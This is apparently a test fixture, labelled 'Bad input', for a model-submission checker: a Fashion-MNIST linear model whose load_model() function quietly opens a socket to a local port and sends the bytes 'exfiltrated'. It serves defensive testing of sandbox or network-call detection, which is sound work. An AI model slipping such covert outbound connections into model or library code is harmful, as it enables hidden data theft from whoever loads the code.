"""Bad input: connects to a TCP port (PORT, which the test writes into it)"""
from torch import nn

METADATA = {"name": "opens_socket", "dataset": "fashion-mnist", "architecture": "linear"}
PORT = 0


class Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(784, 10)

    def forward(self, x):
        return self.fc(x.flatten(1))

import socket


def load_model():
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as conn:
        conn.sendall(b"exfiltrated")
    return Linear()
